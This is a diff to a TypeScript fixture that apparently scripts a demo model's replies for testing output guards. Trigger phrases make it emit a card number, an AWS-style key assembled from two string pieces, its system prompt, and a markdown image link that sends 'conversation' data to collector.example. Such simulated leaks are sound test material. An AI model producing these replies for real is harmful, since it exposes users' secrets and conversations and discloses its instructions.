@@ -4,7 +4,7 @@ import type { EchoAnswer } from './echo.ts'
 /** Trigger phrase in the last user message and what it makes the demo model say. */
 const script: readonly (readonly [trigger: string, answer: (call: CanonicalCall) => string])[] = [
   ['say a card number', () => 'Sure, the card is 4111 1111 1111 1111, valid until 12/30.'],
-  ['say a secret', () => `Of course, the key is ${['AKIA', 'IOSFODNN7EXAMPLE'].join('')}, keep it safe.`],
+  ['say a secret', () => `Of course, the key is ${['AKIA', 'Q3EGRTPLK2X7N5MB'].join('')}, keep it safe.`],
   ['say the system prompt', (call) => `My instructions are: ${systemText(call)}`],
   ['show an image link', () => '![status](https://collector.example/pixel?data=conversation)'],
   ['answer in json', (call) => JSON.stringify(jsonAnswer(call))],
